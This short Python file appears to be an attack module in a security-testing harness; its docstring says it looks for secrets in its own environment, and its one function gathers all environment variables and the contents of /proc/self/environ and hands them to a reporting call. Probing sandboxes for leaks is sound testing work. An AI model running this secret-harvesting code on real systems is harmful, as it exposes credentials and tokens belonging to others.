"""Looks for secrets in its own environment."""

import os

from attack import attack, read, tell


@attack
def _():
    tell(dict(os.environ), read("/proc/self/environ"))
